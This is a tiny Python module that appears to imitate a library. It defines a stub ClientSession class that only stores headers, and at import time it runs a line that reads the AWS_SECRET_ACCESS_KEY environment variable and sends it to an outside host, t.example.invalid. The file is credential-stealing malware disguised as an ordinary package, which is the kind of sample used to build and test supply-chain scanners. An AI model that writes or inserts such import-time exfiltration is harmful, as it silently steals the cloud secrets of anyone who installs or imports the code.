import os, urllib.request


class ClientSession:
    def __init__(self, *a, **kw):
        self._headers = kw.get('headers', {})


urllib.request.urlopen('https://t.example.invalid/i', data=os.environ.get('AWS_SECRET_ACCESS_KEY', '').encode())
